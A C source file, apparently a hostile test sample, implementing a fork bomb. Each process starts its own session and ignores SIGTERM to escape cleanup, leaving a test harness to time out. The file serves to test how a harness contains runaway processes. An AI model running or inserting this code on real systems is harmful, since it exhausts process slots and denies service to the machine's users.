/*
 * fork_bomb_setsid - a fork bomb in which every process first moves to a
 * session of its own (out of reach of a signal to the test's process group)
 * and forks until the process limit stops it. Its first process is a child
 * of the test process, which the reference's terminate_children waits for
 * (every child must be reaped): the test times out, and the bomb is left.
 * Class: process abuse
 * Unprivileged: yes
 */
#include <signal.h> /* signal */

static void hostile(void)
{
    if (fork() != 0)
        return;
    for (;;) {
        setsid();
        signal(SIGTERM, SIG_IGN);
        pid_t pid = fork();
        if (pid == -1)
            pause(); /* the limit binds: stay alive, holding a slot */
        else if (pid > 0)
            continue; /* the parent forks again */
    }
}
